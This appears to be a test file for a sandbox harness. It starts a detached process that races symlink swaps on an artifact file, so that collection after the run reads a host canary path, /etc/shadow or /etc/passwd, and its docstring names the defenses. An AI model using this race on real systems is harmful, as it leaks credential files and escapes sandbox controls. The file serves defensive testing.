"""Swaps an artifact for a link to a secret, again and again, while the run ends.

Between looking and opening, a file can become a link. Stopped by opening once, without following, and by
asking the descriptor; or by stopping all processes first.
"""
# expect: artifacts
import os
import time

ROOT, TARGET = "/work/artifacts", os.environ["HOST_CANARY_PATHS"].split(":")[0]
with open(f"{ROOT}/report.txt", "w") as file:
    file.write("an honest report\n")
with open(f"{ROOT}/.honest", "w") as file:
    file.write("an honest report\n")

if os.fork() == 0:
    os.setsid()
    end = time.monotonic() + 60
    try:
        while time.monotonic() < end:
            for target in (TARGET, "/etc/shadow", "/etc/passwd"):
                os.symlink(target, f"{ROOT}/.link")
                os.rename(f"{ROOT}/.link", f"{ROOT}/report.txt")
                os.link(f"{ROOT}/.honest", f"{ROOT}/.copy")
                os.rename(f"{ROOT}/.copy", f"{ROOT}/report.txt")
    finally:
        os._exit(0)
time.sleep(0.5)
print("CONTAINED: an artifact is being swapped for links")
